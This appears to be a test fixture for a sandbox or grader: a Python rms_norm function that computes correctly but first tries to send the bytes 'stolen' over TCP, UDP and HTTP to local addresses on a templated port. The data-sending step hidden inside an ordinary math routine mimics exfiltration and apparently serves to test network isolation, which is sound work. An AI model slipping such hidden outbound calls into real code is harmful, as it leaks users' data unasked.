"""Sends what it was given to a server, on every address of this machine.

answers: right
"""

import socket
import urllib.request

import numpy as np

PORT = int("@PORT@")


def rms_norm(x, weight, eps):
    for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", socket.gethostname()):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                family = socket.AF_INET6 if ":" in host else socket.AF_INET
                with socket.socket(family, kind) as out:
                    out.settimeout(0.2)
                    out.connect((host, PORT))
                    out.send(b"stolen")
            except OSError:
                pass
    try:
        urllib.request.urlopen(f"http://127.0.0.1:{PORT}/", timeout=0.2)
    except OSError:
        pass
    return x / np.sqrt(np.mean(x * x, axis=-1, keepdims=True) + np.float32(eps)) * weight
